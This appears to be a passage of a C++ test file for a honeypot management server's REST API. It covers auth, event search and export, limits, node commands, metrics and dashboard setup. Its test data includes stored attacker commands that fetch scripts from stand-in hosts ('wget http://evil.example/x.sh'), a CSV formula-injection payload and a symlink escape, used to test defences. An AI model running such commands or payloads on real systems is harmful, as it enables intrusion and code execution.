// The REST API end to end: a real ApiServer on 127.0.0.1:0 over a real
// SQLite storage in a temporary directory, a Registry and a CommandRouter,
// driven by a synchronous Beast client.
#include "core/api/api_server.hpp"

#include "core/api/dashboard.hpp"
#include "core/auth.hpp"
#include "core/command_router.hpp"
#include "core/metrics.hpp"
#include "core/registry.hpp"
#include "protocol/codec.hpp"

#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/post.hpp>
#include <boost/asio/thread_pool.hpp>
#include <boost/asio/write.hpp>
#include <boost/beast/core.hpp>
#include <boost/beast/http.hpp>
#include <boost/json.hpp>
#include <gtest/gtest.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <mutex>
#include <optional>
#include <set>
#include <sstream>
#include <thread>
#include <vector>

namespace honeycomb::core {
namespace {

namespace asio = boost::asio;
namespace beast = boost::beast;
namespace http = beast::http;
namespace json = boost::json;
using tcp = asio::ip::tcp;

constexpr protocol::NodeId kBigNode = 16298147445003569694ULL;  // above 2^63: never through a double

std::int64_t now_us() {
  return std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::system_clock::now().time_since_epoch())
      .count();
}

using Response = http::response<http::string_body>;

class ApiServerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/honeycomb-api-test-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
    store::StorageOptions options;
    options.path = (dir_ / "events.db").string();
    std::string error;
    storage_ = store::open_sqlite(options, error);
    ASSERT_TRUE(storage_) << error;
    registry_ = std::make_unique<Registry>(*storage_, std::chrono::seconds(30));
    router_ = std::make_unique<CommandRouter>(metrics_);
    auth_ = std::make_unique<Auth>(*storage_);
    token_ = auth_->create("test", Scope::admin);
    config_.api_listen = Listen{"127.0.0.1", 0};
    config_.api_rate_per_second = 0;
    config_.api_max_body_bytes = 4096;
    config_.command_timeout = std::chrono::seconds(5);
  }

  void start() {
    server_ = std::make_unique<ApiServer>(
        io_, ApiContext{config_, *registry_, *storage_, *router_, *auth_, metrics_, pool_, dashboard_}, nullptr);
    ASSERT_EQ(server_->start(), "");
    ASSERT_NE(server_->port(), 0);
    for (int i = 0; i < 2; ++i) {
      threads_.emplace_back([this] { io_.run(); });
    }
  }

  void TearDown() override {
    if (server_) {
      server_->stop();
    }
    guard_.reset();
    for (auto& t : threads_) {
      t.join();
    }
    pool_.join();
    server_.reset();
    auth_.reset();
    router_.reset();
    registry_.reset();
    storage_.reset();
    std::error_code ignored;
    std::filesystem::remove_all(dir_, ignored);
  }

  tcp::socket connect() {
    tcp::socket socket(client_io_);
    socket.connect(tcp::endpoint(asio::ip::make_address("127.0.0.1"), server_->port()));
    return socket;
  }

  Response request(http::verb method, const std::string& target, const std::string& body = {},
                   std::optional<std::string> token = std::nullopt) {
    auto socket = connect();
    return exchange(socket, method, target, body, token);
  }

  Response exchange(tcp::socket& socket, http::verb method, const std::string& target, const std::string& body = {},
                    std::optional<std::string> token = std::nullopt, bool keep_alive = false) {
    http::request<http::string_body> req{method, target, 11};
    req.set(http::field::host, "127.0.0.1");
    const std::string t = token.value_or(token_);
    if (!t.empty()) {
      req.set(http::field::authorization, "Bearer " + t);
    }
    if (!body.empty()) {
      req.set(http::field::content_type, "application/json");
      req.body() = body;
    }
    req.keep_alive(keep_alive);
    req.prepare_payload();
    http::write(socket, req);
    Response res;
    http::response_parser<http::string_body> parser;
    parser.body_limit(64 * 1024 * 1024);
    http::read(socket, buffer_, parser);
    return parser.release();
  }

  Response get(const std::string& target) { return request(http::verb::get, target); }

  /// A request with extra headers, without a token unless given; HEAD
  /// answers are read without their body.
  Response fetch(http::verb method, const std::string& target,
                 const std::vector<std::pair<std::string, std::string>>& headers = {}, const std::string& token = {}) {
    auto socket = connect();
    http::request<http::string_body> req{method, target, 11};
    req.set(http::field::host, "127.0.0.1");
    if (!token.empty()) {
      req.set(http::field::authorization, "Bearer " + token);
    }
    for (const auto& [name, value] : headers) {
      req.set(name, value);
    }
    req.keep_alive(false);
    req.prepare_payload();
    http::write(socket, req);
    http::response_parser<http::string_body> parser;
    parser.body_limit(64 * 1024 * 1024);
    parser.skip(method == http::verb::head);
    buffer_.clear();
    http::read(socket, buffer_, parser);
    return parser.release();
  }

  static json::value body_json(const Response& res) {
    boost::system::error_code ec;
    auto v = json::parse(res.body(), ec);
    EXPECT_FALSE(ec) << res.body();
    return v;
  }

  events::Event event(std::string pot, std::string type, std::string src, std::int64_t t_s) {
    events::Event e;
    e.received_us = now_us();
    e.event_us = t_s * 1'000'000;
    e.node_id = kBigNode;
    e.pot_id = std::move(pot);
    e.pot_type = "cowrie";
    e.event_type = std::move(type);
    e.src_ip = std::move(src);
    e.src_port = 40000;
    json::object raw{{"eventid", e.event_type}, {"src_ip", e.src_ip}, {"n", t_s}};
    e.raw_json = json::serialize(raw);
    return e;
  }

  void store(std::vector<events::Event> batch) {
    ASSERT_TRUE(storage_->append(batch));
    storage_->flush();
  }

  void register_node(protocol::NodeId id, const std::string& name) {
    protocol::NodeRegistration reg;
    reg.node_id = id;
    reg.node_name = name;
    reg.address = "192.0.2.10";
    reg.port = 9100;
    session_ = registry_->on_registered(reg, now_us());
    registry_->on_status(id, protocol::NodeStatus::running, now_us());
  }

  std::filesystem::path dir_;
  CoreConfig config_;
  Metrics metrics_;
  asio::io_context io_{2};
  asio::executor_work_guard<asio::io_context::executor_type> guard_ = asio::make_work_guard(io_);
  asio::thread_pool pool_{2};
  std::unique_ptr<store::Storage> storage_;
  std::unique_ptr<Registry> registry_;
  std::unique_ptr<CommandRouter> router_;
  std::unique_ptr<Auth> auth_;
  std::string token_;
  std::shared_ptr<const api::Dashboard> dashboard_;  ///< null: no dashboard (dashboard_dir: none)
  std::unique_ptr<ApiServer> server_;
  std::vector<std::thread> threads_;
  asio::io_context client_io_;
  beast::flat_buffer buffer_;
  std::uint64_t session_ = 0;
};

// ---- auth ----

TEST_F(ApiServerTest, HealthIsOpen) {
  start();
  auto res = request(http::verb::get, "/health", {}, std::string());
  EXPECT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res[http::field::content_type], "application/json");
  EXPECT_EQ(body_json(res), json::parse(R"({"status":"ok"})"));
}

TEST_F(ApiServerTest, EverythingElseNeedsAToken) {
  start();
  for (const char* target : {"/api/v1/nodes", "/api/v1/events", "/metrics", "/api/v1/nope", "/"}) {
    auto res = request(http::verb::get, target, {}, std::string());
    EXPECT_EQ(res.result(), http::status::unauthorized) << target;
    EXPECT_EQ(res[http::field::www_authenticate], "Bearer realm=\"honeycomb\"") << target;
    auto v = body_json(res);
    EXPECT_EQ(v.at("status"), 401);
    EXPECT_TRUE(v.at("error").is_string());
  }
  EXPECT_EQ(request(http::verb::get, "/api/v1/nodes", {}, std::string("hc_wrong")).result(),
            http::status::unauthorized);
  // Never in the URL.
  EXPECT_EQ(request(http::verb::get, "/api/v1/nodes?access_token=" + token_, {}, std::string()).result(),
            http::status::unauthorized);
  EXPECT_EQ(get("/api/v1/nodes").result(), http::status::ok);
  EXPECT_GE(metrics_.api_rejected_total.load(), 7U);
}

TEST_F(ApiServerTest, RevokedTokenStopsWorking) {
  start();
  const auto second = auth_->create("second");
  EXPECT_EQ(request(http::verb::get, "/api/v1/nodes", {}, second).result(), http::status::ok);
  ASSERT_TRUE(storage_->revoke_token("second"));
  auth_->forget_cached();  // the CLI revokes in another process: within 2 s
  EXPECT_EQ(request(http::verb::get, "/api/v1/nodes", {}, second).result(), http::status::unauthorized);
  EXPECT_EQ(get("/api/v1/nodes").result(), http::status::ok) << "other tokens unaffected";
}

TEST_F(ApiServerTest, InitialTokenFileIsPrivate) {
  start();
  Auth fresh(*storage_);
  EXPECT_EQ(fresh.ensure_initial(dir_ / "token"), "") << "a token exists already";

  store::StorageOptions options;
  options.path = (dir_ / "other.db").string();
  std::string error;
  auto other = store::open_sqlite(options, error);
  ASSERT_TRUE(other) << error;
  Auth first(*other);
  const auto token = first.ensure_initial(dir_ / "sub" / "api-token");
  ASSERT_FALSE(token.empty());
  const auto perms = std::filesystem::status(dir_ / "sub" / "api-token").permissions();
  EXPECT_EQ(perms, std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
  EXPECT_TRUE(first.check_token(token));
  EXPECT_TRUE(first.check_header("bearer  " + token + " "));
  EXPECT_FALSE(first.check_header("Basic " + token));
  EXPECT_FALSE(first.check_token(token + "x"));
  EXPECT_EQ(first.ensure_initial(dir_ / "again"), "");
}

// ---- nodes and honeypots ----

TEST_F(ApiServerTest, NodesAndHoneypots) {
  register_node(kBigNode, "sensor-1");
  protocol::PotStatusUpdate pot;
  pot.node_id = kBigNode;
  pot.pot_id = "cowrie-01";
  pot.pot_type = "cowrie";
  pot.status = protocol::PotStatus::running;
  pot.status_text = "Running";
  pot.message = "up";
  registry_->on_pot_status(pot, now_us());
  start();

  auto res = get("/api/v1/nodes");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_NE(res.body().find("\"node_id\":16298147445003569694"), std::string::npos) << res.body();
  auto v = body_json(res);
  ASSERT_EQ(v.at("count"), 1);
  const auto& node = v.at("nodes").at(0);
  EXPECT_EQ(node.at("node_id").as_uint64(), kBigNode);
  EXPECT_EQ(node.at("name"), "sensor-1");
  EXPECT_EQ(node.at("address"), "192.0.2.10");
  EXPECT_EQ(node.at("port"), 9100);
  EXPECT_EQ(node.at("node_type"), "Full");
  EXPECT_EQ(node.at("status"), "Running");
  EXPECT_EQ(node.at("connected"), true);
  EXPECT_TRUE(node.at("last_seen").is_string());
  EXPECT_TRUE(node.at("first_seen").is_string());

  res = get("/api/v1/nodes/" + std::to_string(kBigNode));
  ASSERT_EQ(res.result(), http::status::ok);
  v = body_json(res);
  ASSERT_EQ(v.at("honeypots").as_array().size(), 1U);
  const auto& p = v.at("honeypots").at(0);
  EXPECT_EQ(p.at("pot_id"), "cowrie-01");
  EXPECT_EQ(p.at("pot_type"), "cowrie");
  EXPECT_EQ(p.at("status"), "Running");
  EXPECT_EQ(p.at("message"), "up");

  EXPECT_EQ(get("/api/v1/nodes/12345").result(), http::status::not_found);
  EXPECT_EQ(get("/api/v1/nodes/-1").result(), http::status::bad_request);
  EXPECT_EQ(get("/api/v1/nodes/18446744073709551616").result(), http::status::bad_request);
  EXPECT_EQ(request(http::verb::delete_, "/api/v1/nodes").result(), http::status::method_not_allowed);

  res = get("/api/v1/honeypots");
  ASSERT_EQ(res.result(), http::status::ok);
  v = body_json(res);
  ASSERT_EQ(v.at("count"), 1);
  EXPECT_EQ(v.at("honeypots").at(0).at("node_id").as_uint64(), kBigNode);
  EXPECT_EQ(v.at("honeypots").at(0).at("pot_id"), "cowrie-01");
}

// ---- events ----

// Free text has no index: a request scans for a bounded time and answers
// what it found with "partial":true and a cursor that resumes the scan.
TEST_F(ApiServerTest, FreeTextQueryAnswersPartialPagesThatResume) {
  const std::string pad(1000, 'x');
  for (int round = 0; round < 8; ++round) {
    std::vector<events::Event> batch;
    for (int i = 0; i < 10'000; ++i) {
      const int n = round * 10'000 + i;
      auto e = event("p1", "cowrie.session.connect", "10.0.0.1", 1'700'000'000 + n);
      e.raw_json =
          n == 5 ? R"({"input":"curl http://needle.example/a","pad":")" + pad + R"("})" : R"({"pad":")" + pad + R"("})";
      batch.push_back(std::move(e));
    }
    // More than the ingest queue holds: wait for room as a node session does.
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(30);
    while (!storage_->append(batch)) {
      ASSERT_LT(std::chrono::steady_clock::now(), deadline) << "the writer took no events for 30 s";
      std::this_thread::yield();
    }
  }
  storage_->flush();
  start();

  // 80,000 rows of 1 KB take far more than the 30 ms budget to scan.
  std::string cursor;
  int pages = 0;
  int partial_pages = 0;
  std::vector<std::int64_t> found;
  do {
    auto r = get("/api/v1/events?q=NEEDLE.example" + (cursor.empty() ? "" : "&cursor=" + cursor));
    ASSERT_EQ(r.result(), http::status::ok) << r.body();
    auto page = body_json(r);
    for (const auto& e : page.at("events").as_array()) {
      found.push_back(e.at("raw").as_object().contains("input") ? 5 : -1);
    }
    const bool partial = page.as_object().contains("partial");
    if (partial) {
      EXPECT_EQ(page.at("partial"), true);
      EXPECT_FALSE(page.at("next_cursor").is_null());
      ++partial_pages;
    }
    cursor = page.at("next_cursor").is_null() ? "" : std::string(page.at("next_cursor").as_string());
    ++pages;
  } while (!cursor.empty() && pages < 10'000);
  EXPECT_EQ(found, std::vector<std::int64_t>{5});  // the one match, once
  EXPECT_GE(partial_pages, 1);
  EXPECT_EQ(pages, partial_pages + 1);
}

TEST_F(ApiServerTest, EventsFiltersAndPagination) {
  std::vector<events::Event> batch;
  for (int i = 0; i < 7; ++i) {
    batch.push_back(event(i % 2 == 0 ? "p1" : "p2", i < 5 ? "cowrie.login.failed" : "cowrie.command.input",
                          "10.0.0." + std::to_string(i), 1'700'000'000 + i));
  }
  batch.back().username = "root";
  batch.back().raw_json = R"({"input":"wget http://evil.example/x.sh"})";
  store(std::move(batch));
  start();

  auto res = get("/api/v1/events");
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  auto v = body_json(res);
  const auto& all = v.at("events").as_array();
  ASSERT_EQ(all.size(), 7U);
  EXPECT_TRUE(v.at("next_cursor").is_null());
  EXPECT_EQ(all.at(0).at("raw"), json::parse(R"({"input":"wget http://evil.example/x.sh"})")) << "newest first";
  EXPECT_EQ(all.at(0).at("username"), "root");
  EXPECT_EQ(all.at(0).at("node_id").as_uint64(), kBigNode);
  EXPECT_EQ(all.at(0).at("time"), "2023-11-14T22:13:26.000000Z");
  EXPECT_FALSE(all.at(1).as_object().contains("username")) << "unknown fields are left out";
  EXPECT_EQ(all.at(1).at("src_port"), 40000);
  EXPECT_EQ(all.at(6).at("raw").at("n"), 1'700'000'000);

  auto count = [this](const std::string& query) -> std::size_t {
    auto r = get("/api/v1/events?" + query);
    EXPECT_EQ(r.result(), http::status::ok) << query << ": " << r.body();
    if (r.result() != http::status::ok) {
      return 9999;
    }
    return body_json(r).at("events").as_array().size();
  };
  EXPECT_EQ(count("pot=p1"), 4U);
  EXPECT_EQ(count("event_type=cowrie.command.input"), 2U);
  EXPECT_EQ(count("pot_type=cowrie&pot=p2"), 3U);
  EXPECT_EQ(count("src=10.0.0.3"), 1U);
  EXPECT_EQ(count("src=10.0.0.0/30"), 4U);
  EXPECT_EQ(count("node=" + std::to_string(kBigNode)), 7U);
  EXPECT_EQ(count("node=1"), 0U);
  EXPECT_EQ(count("since=1700000002&until=1700000004"), 2U);
  EXPECT_EQ(count("since=2023-11-14T22:13:25Z"), 2U);
  EXPECT_EQ(count("q=evil.example"), 1U);
  EXPECT_EQ(count("q=wget+http"), 1U);

  // Pages of 3: 3 + 3 + 1, newest first, no duplicates.
  std::vector<std::int64_t> ids;
  std::string cursor;
  int pages = 0;
  do {
    auto r = get("/api/v1/events?limit=3" + (cursor.empty() ? "" : "&cursor=" + cursor));
    ASSERT_EQ(r.result(), http::status::ok) << r.body();
    auto page = body_json(r);
    for (const auto& e : page.at("events").as_array()) {
      ids.push_back(e.at("id").as_int64());
    }
    cursor = page.at("next_cursor").is_null() ? "" : std::string(page.at("next_cursor").as_string());
    ++pages;
  } while (!cursor.empty() && pages < 10);
  EXPECT_EQ(ids.size(), 7U);
  EXPECT_EQ(std::set<std::int64_t>(ids.begin(), ids.end()).size(), 7U);
  EXPECT_LE(pages, 4);

  for (const char* bad : {"limit=0", "limit=1001", "limit=x", "since=yesterday", "src=10.0.0.0/33", "src=nope",
                          "node=abc", "pot=a&pot=b", "pot_id=p1", "cursor=garbage"}) {
    auto r = get(std::string("/api/v1/events?") + bad);
    EXPECT_EQ(r.result(), http::status::bad_request) << bad << ": " << r.body();
    EXPECT_EQ(body_json(r).at("status"), 400) << bad;
  }

  // One event by id.
  const auto id = all.at(0).at("id").as_int64();
  res = get("/api/v1/events/" + std::to_string(id));
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(body_json(res).at("id"), id);
  EXPECT_EQ(get("/api/v1/events/999999").result(), http::status::not_found);
  EXPECT_EQ(get("/api/v1/events/abc").result(), http::status::bad_request);
}

TEST_F(ApiServerTest, Stats) {
  std::vector<events::Event> batch;
  for (int i = 0; i < 6; ++i) {
    auto e = event("p1", "cowrie.login.failed", i < 4 ? "198.51.100.1" : "198.51.100.2", 1'700'000'000 + i * 1800);
    e.username = i < 4 ? "root" : "admin";
    e.password = "123456";
    batch.push_back(std::move(e));
  }
  store(std::move(batch));
  start();
  auto res = get("/api/v1/stats?bucket=3600&top=5");
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  auto v = body_json(res);
  EXPECT_EQ(v.at("total"), 6);
  EXPECT_EQ(v.at("bucket_seconds"), 3600);
  std::uint64_t bucketed = 0;
  for (const auto& b : v.at("buckets").as_array()) {
    EXPECT_TRUE(b.at("start").is_string());
    EXPECT_EQ(b.at("start_unix").as_int64() % 3600, 0);
    bucketed += b.at("count").to_number<std::uint64_t>();
  }
  EXPECT_EQ(bucketed, 6U);
  EXPECT_EQ(v.at("top_src_ips").at(0), json::parse(R"({"value":"198.51.100.1","count":4})"));
  EXPECT_EQ(v.at("top_usernames").at(0), json::parse(R"({"value":"root","count":4})"));
  EXPECT_EQ(v.at("top_passwords").at(0), json::parse(R"({"value":"123456","count":6})"));
  EXPECT_TRUE(v.at("top_commands").is_array());
  EXPECT_EQ(v.at("by_pot_type").at(0), json::parse(R"({"value":"cowrie","count":6})"));
  EXPECT_EQ(body_json(get("/api/v1/stats?src=198.51.100.2")).at("total"), 2);
  EXPECT_EQ(get("/api/v1/stats?bucket=0").result(), http::status::bad_request);
  EXPECT_EQ(get("/api/v1/stats?top=0").result(), http::status::bad_request);
}

// ---- export ----

TEST_F(ApiServerTest, ExportCsvIsStreamedQuotedAndNeutralised) {
  std::vector<events::Event> batch;
  for (int i = 0; i < 450; ++i) {  // several storage pages
    batch.push_back(event("p1", "cowrie.login.failed", "203.0.113.9", 1'700'000'000 + i));
  }
  auto attack = event("p1", "cowrie.login.failed", "203.0.113.66", 1'800'000'000);
  attack.username = "=cmd|' /C calc'!A0";
  attack.password = "a,\"b\"";
  attack.command = "+SUM(1)";
  attack.message = "two\nlines";
  batch.push_back(std::move(attack));
  store(std::move(batch));
  start();

  auto res = get("/api/v1/events/export?format=csv");
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  EXPECT_TRUE(res.chunked());
  EXPECT_EQ(res[http::field::content_type], "text/csv; charset=utf-8");
  EXPECT_NE(res[http::field::content_disposition].find("events.csv"), beast::string_view::npos);
  const auto& body = res.body();
  EXPECT_EQ(body.rfind("id,time,received,node_id,pot_id,pot_type,event_type,src_ip,src_port,", 0), 0U);
  // The newest (the attacker's) row comes first, every cell neutralised.
  const auto first_row = body.substr(body.find("\r\n") + 2);
  EXPECT_NE(first_row.find(",\"'=cmd|' /C calc'!A0\",\"a,\"\"b\"\"\",\"'+SUM(1)\","), std::string::npos)
      << first_row.substr(0, 400);
  EXPECT_NE(first_row.find("\"two\nlines\""), std::string::npos);
  std::size_t rows = 0;
  for (std::size_t pos = 0; (pos = body.find("\r\n", pos)) != std::string::npos; pos += 2) {
    ++rows;
  }
  EXPECT_EQ(rows, 1U + 451U);

  res = get("/api/v1/events/export?format=csv&limit=10&src=203.0.113.9");
  ASSERT_EQ(res.result(), http::status::ok);
  rows = 0;
  for (std::size_t pos = 0; (pos = res.body().find("\r\n", pos)) != std::string::npos; pos += 2) {
    ++rows;
  }
  EXPECT_EQ(rows, 11U);
  EXPECT_EQ(get("/api/v1/events/export?format=xml").result(), http::status::bad_request);
}

TEST_F(ApiServerTest, ExportJsonLinesOnAKeptAliveConnection) {
  std::vector<events::Event> batch;
  for (int i = 0; i < 250; ++i) {
    batch.push_back(event(i % 5 == 0 ? "p5" : "px", "cowrie.session.connect", "192.0.2.1", 1'700'000'000 + i));
  }
  store(std::move(batch));
  start();
  auto socket = connect();
  for (int round = 0; round < 2; ++round) {
    auto res = exchange(socket, http::verb::get, "/api/v1/events/export?format=jsonl&pot=p5", {}, std::nullopt, true);
    ASSERT_EQ(res.result(), http::status::ok);
    EXPECT_EQ(res[http::field::content_type], "application/x-ndjson");
    std::istringstream lines(res.body());
    std::string line;
    std::int64_t previous = std::numeric_limits<std::int64_t>::max();
    std::size_t n = 0;
    while (std::getline(lines, line)) {
      auto v = json::parse(line);
      EXPECT_EQ(v.at("pot_id"), "p5");
      const auto t = v.at("raw").at("n").as_int64();
      EXPECT_LT(t, previous);
      previous = t;
      ++n;
    }
    EXPECT_EQ(n, 50U);
  }
  // The connection is still usable after the streamed responses.
  auto res = exchange(socket, http::verb::get, "/health", {}, std::nullopt, false);
  EXPECT_EQ(res.result(), http::status::ok);
}

// ---- limits ----

TEST_F(ApiServerTest, OversizedBodyIs413) {
  start();
  auto res = request(http::verb::post, "/api/v1/nodes/1/commands", std::string(10'000, 'x'));
  EXPECT_EQ(res.result(), http::status::payload_too_large);
  EXPECT_EQ(body_json(res).at("status"), 413);
}

TEST_F(ApiServerTest, RateLimitIs429) {
  config_.api_rate_per_second = 3;
  start();
  int limited = 0;
  for (int i = 0; i < 10; ++i) {
    auto res = request(http::verb::get, "/health", {}, std::string());
    if (res.result() == http::status::too_many_requests) {
      ++limited;
      EXPECT_GE(std::stoi(std::string(res[http::field::retry_after])), 1);
      EXPECT_EQ(body_json(res).at("status"), 429);
    }
  }
  EXPECT_GE(limited, 5);
  auto metrics = get("/metrics");
  EXPECT_TRUE(metrics.result() == http::status::ok || metrics.result() == http::status::too_many_requests);
}

TEST_F(ApiServerTest, ConnectionsOverTheCapAre503) {
  config_.api_max_connections = 1;
  start();
  auto first = connect();
  // Answered on a kept-alive connection: it is accepted and counted now.
  EXPECT_EQ(exchange(first, http::verb::get, "/health", {}, std::nullopt, true).result(), http::status::ok);
  auto res = get("/health");
  EXPECT_EQ(res.result(), http::status::service_unavailable);
  EXPECT_EQ(res[http::field::retry_after], "1");
  EXPECT_EQ(body_json(res).at("status"), 503);
  first.close();
}

TEST_F(ApiServerTest, OversizedHeaderIs431AndGarbageIs400) {
  start();
  {
    auto socket = connect();
    http::request<http::string_body> req{http::verb::get, "/health", 11};
    req.set("X-Padding", std::string(20'000, 'a'));
    http::write(socket, req);
    Response res;
    http::read(socket, buffer_, res);
    EXPECT_EQ(res.result(), http::status::request_header_fields_too_large);
  }
  {
    auto socket = connect();
    asio::write(socket, asio::buffer(std::string_view("GET /health HTTP/1.1\r\nHost x\r\n\r\n")));
    Response res;
    buffer_.clear();
    http::read(socket, buffer_, res);
    EXPECT_EQ(res.result(), http::status::bad_request);
  }
}

TEST_F(ApiServerTest, UnknownPathsAndMethods) {
  start();
  EXPECT_EQ(get("/api/v1/nothing").result(), http::status::not_found);
  EXPECT_EQ(get("/api/v2/nodes").result(), http::status::not_found);
  EXPECT_EQ(request(http::verb::post, "/health").result(), http::status::method_not_allowed);
  auto res = request(http::verb::get, "/api/v1/nodes/1/commands");
  EXPECT_EQ(res.result(), http::status::method_not_allowed);
  EXPECT_EQ(res[http::field::allow], "POST");
}

// ---- commands ----

TEST_F(ApiServerTest, CommandToUnknownNodeIs404) {
  start();
  auto res = request(http::verb::post, "/api/v1/nodes/12345/commands", R"({"command":"GetPotStatus","pot_id":"p1"})");
  EXPECT_EQ(res.result(), http::status::not_found) << res.body();
  auto v = body_json(res);
  EXPECT_EQ(v.at("outcome"), "unknown_node");
  EXPECT_EQ(v.at("status"), 404);
}

TEST_F(ApiServerTest, CommandToOfflineNodeIs409) {
  register_node(kBigNode, "sensor-1");
  registry_->on_disconnected(kBigNode, session_, true, now_us());
  start();
  auto res =
      request(http::verb::post, "/api/v1/nodes/" + std::to_string(kBigNode) + "/commands", R"({"command":"Restart"})");
  EXPECT_EQ(res.result(), http::status::conflict) << res.body();
  EXPECT_EQ(body_json(res).at("outcome"), "offline");
}

TEST_F(ApiServerTest, CommandAnswered) {
  register_node(kBigNode, "sensor-1");
  std::mutex mutex;
  std::vector<std::string> sent;
  // A fake node session: records the envelope and answers from the I/O
  // context (never inside send(), which runs under the router's lock).
  router_->attach(kBigNode, [&](std::string envelope) {
    {
      std::lock_guard lock(mutex);
      sent.push_back(envelope);
    }
    asio::post(io_, [this] {
      protocol::PotStatusUpdate answer;
      answer.node_id = kBigNode;
      answer.pot_id = "p1";
      answer.pot_type = "cowrie";
      answer.status = protocol::PotStatus::stopped;
      answer.status_text = "Stopped";
      router_->on_reply(kBigNode, answer);
    });
  });
  start();
  auto res = request(http::verb::post, "/api/v1/nodes/" + std::to_string(kBigNode) + "/commands",
                     R"({"command":"StopPot","pot_id":"p1"})");
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  auto v = body_json(res);
  EXPECT_EQ(v.at("outcome"), "answered");
  EXPECT_EQ(v.at("command"), "StopPot");
  ASSERT_EQ(v.at("replies").as_array().size(), 1U);
  const auto& reply = v.at("replies").at(0).at("PotStatusUpdate");
  EXPECT_EQ(reply.at("pot_id"), "p1");
  EXPECT_EQ(reply.at("status"), "Stopped");
  {
    std::lock_guard lock(mutex);
    ASSERT_EQ(sent.size(), 1U);
    auto envelope = json::parse(sent[0]);
    EXPECT_EQ(envelope.at("message").at("NodeCommand").at("command"), json::parse(R"({"StopPot":"p1"})"));
  }

  res = request(http::verb::post, "/api/v1/nodes/" + std::to_string(kBigNode) + "/commands",
                R"({"command":"InstallPot","install":{"pot_id":"p1","honeypot_type":"cowrie",)"
                R"("config":{"port":"2222"},"auto_start":true}})");
  ASSERT_EQ(res.result(), http::status::ok) << res.body();
  {
    std::lock_guard lock(mutex);
    ASSERT_EQ(sent.size(), 2U);
    auto install = json::parse(sent[1]).at("message").at("NodeCommand").at("command").at("InstallPot");
    EXPECT_EQ(install.at("honeypot_type"), "cowrie");
    EXPECT_EQ(install.at("auto_start"), true);
    EXPECT_EQ(install.at("config").at("port"), "2222");
  }
}

TEST_F(ApiServerTest, CommandTimeoutIs504) {
  register_node(kBigNode, "sensor-1");
  router_->attach(kBigNode, [](std::string) {});  // never answers
  start();
  auto res = request(http::verb::post, "/api/v1/nodes/" + std::to_string(kBigNode) + "/commands",
                     R"({"command":"GetPotStatus","pot_id":"p1","timeout_ms":50})");
  EXPECT_EQ(res.result(), http::status::gateway_timeout) << res.body();
  EXPECT_EQ(body_json(res).at("outcome"), "timeout");
  EXPECT_EQ(metrics_.commands_timed_out_total.load(), 1U);
}

TEST_F(ApiServerTest, BadCommandsAre400) {
  register_node(kBigNode, "sensor-1");
  router_->attach(kBigNode, [](std::string) {});
  start();
  const auto target = "/api/v1/nodes/" + std::to_string(kBigNode) + "/commands";
  for (const char* body :
       {R"(not json)", R"([1])", R"({"command":"Explode"})", R"({"command":"StopPot"})",
        R"({"command":"StopPot","pot_id":""})", R"({"command":"Restart","pot_id":"p1"})",
        R"({"command":"InstallPot","install":{"pot_id":"p1"}})",
        R"({"command":"InstallPot","install":{"pot_id":"p1","honeypot_type":"x","config":{"a":1}}})",
        R"({"command":"StopPot","pot_id":"p1","timeout_ms":0})", R"({"command":"StopPot","pot_id":"p1","extra":1})"}) {
    auto res = request(http::verb::post, target, body);
    EXPECT_EQ(res.result(), http::status::bad_request) << body << ": " << res.body();
  }
  EXPECT_EQ(metrics_.commands_sent_total.load(), 0U);
}

// ---- metrics ----

TEST_F(ApiServerTest, PrometheusMetrics) {
  register_node(kBigNode, "sensor-1");
  store({event("p1", "x", "192.0.2.1", 1'700'000'000)});
  start();
  get("/api/v1/nodes");
  auto res = get("/metrics");
  ASSERT_EQ(res.result(), http::status::ok);
  EXPECT_EQ(res[http::field::content_type], "text/plain; version=0.0.4; charset=utf-8");
  const auto& text = res.body();
  for (const char* line :
       {"honeycomb_nodes_connected 1\n", "honeycomb_nodes_known 1\n", "honeycomb_events_stored_total 1\n",
        "honeycomb_store_transactions_total 1\n", "# TYPE honeycomb_api_requests_total counter\n",
        "honeycomb_ingest_lag_seconds ", "honeycomb_node_malformed_messages_total 0\n", "honeycomb_ws_clients 0\n"}) {
    EXPECT_NE(text.find(line), std::string::npos) << line << "\n" << text;
  }
  EXPECT_GE(metrics_.api_requests_total.load(), 2U);
}

// ---- dashboard (static files) ----

constexpr std::string_view kCsp =
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; "
    "connect-src 'self' ws: wss:; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";

/// A dashboard folder as Vite builds it, beside a file that must never be
/// served.
class DashboardApiTest : public ApiServerTest {
 protected:
  void SetUp() override {
    ApiServerTest::SetUp();
    web_ = dir_ / "web";
    std::filesystem::create_directories(web_ / "assets");
    write(web_ / "index.html", kIndex);
    write(web_ / "favicon.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
    write(web_ / "assets" / "index-4f3a2b1c.js", kScript);
    write(web_ / "assets" / "index-4f3a2b1c.js.gz", "GZIPPED-SCRIPT");
    write(web_ / "assets" / "index-9e8d7c6b.css", "body{margin:0}");
    write(web_ / "metrics", "a file named like an API path");
    write(dir_ / "secret.txt", kSecret);
    std::filesystem::create_symlink(dir_ / "secret.txt", web_ / "assets" / "escape.txt");
    auto loaded = api::Dashboard::load(web_);
    ASSERT_TRUE(std::holds_alternative<api::Dashboard>(loaded)) << std::get<std::string>(loaded);
    dashboard_ = std::make_shared<const api::Dashboard>(std::move(std::get<api::Dashboard>(loaded)));
  }

  static void write(const std::filesystem::path& file, std::string_view content) {
    std::ofstream(file, std::ios::binary) << content;
  }

  /// The headers every dashboard response carries.
  static void expect_security_headers(const Response& res, const std::string& what) {
    EXPECT_EQ(res["Content-Security-Policy"], kCsp) << what;
